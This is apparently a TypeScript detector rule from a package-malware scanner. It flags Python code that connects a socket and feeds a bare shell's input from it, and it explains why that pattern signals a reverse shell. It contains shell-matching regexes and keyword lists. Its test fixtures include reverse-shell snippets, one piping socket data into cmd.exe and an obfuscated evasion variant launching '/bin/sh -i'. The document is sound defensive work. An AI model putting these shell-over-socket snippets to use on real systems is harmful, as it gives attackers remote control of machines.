import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = ["socket", "open_connection", "websocket"] as const;
/** Nothing but a shell that waits for what it is told. */
const SHELL =
  /^\s{0,4}(?:(?:\/usr)?\/bin\/|c:\\windows\\system32\\)?(?:(?:ba|z|da|k)?sh|cmd|powershell|pwsh)(?:\.exe)?(?:\s{1,4}(?:-i|-l|-nologo|-noprofile|-noninteractive|\/k|\/q|-c\s{0,2}-))*\s{0,4}$/i;
const FED = /stdin\s{0,4}=\s{0,4}(?:\w{1,40}\.)?(?:PIPE|fileno|[\w.]{1,60}\(\))|stdin\s{0,4}=\s{0,4}\w{1,40}/;

export const pipesShellToSocket: Detector = {
  id: "pipes-shell-to-socket",
  title: "A bare shell is fed by a program that holds a connection",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 6.4,
  class: "threat",
  group: "remote-control",
  why: `The code opens a connection and starts a shell without a command, whose input it writes to itself: what comes over the connection
is typed into the shell. Threads that copy one into the other are the usual form of a reverse shell on Windows.

Terminal servers do this behind a login of their own, in a program whose purpose it is.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (file.kind !== "python") continue;
      const connects = deedsOf(file, "socket")[0];
      if (connects === undefined) continue;
      for (const deed of deedsOf(file, "start")) {
        if (!SHELL.test(deed.text) || !FED.test(deed.words)) continue;
        yield sight(
          file,
          deed.offset,
          `${deed.what} starts ${deed.text.trim()} in a file that opens ${connects.what}`,
          {
            phase: deed.phase,
          },
        );
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import socket, subprocess\ns = socket.create_connection(('example.invalid', 1))\np = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\np.stdin.write(s.recv(9))\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['sh', '-c', 'uptime'], stdout=subprocess.PIPE)\n",
        },
      },
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "import subprocess\nsubprocess.Popen(['bash'], stdin=subprocess.PIPE)\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "from socket import socket as S\nfrom subprocess import *\nc = S()\nc.connect(a)\nPopen('/bin/sh -i', shell=True, stdin=PIPE, stdout=PIPE)\n",
        },
      },
    ],
  },
};
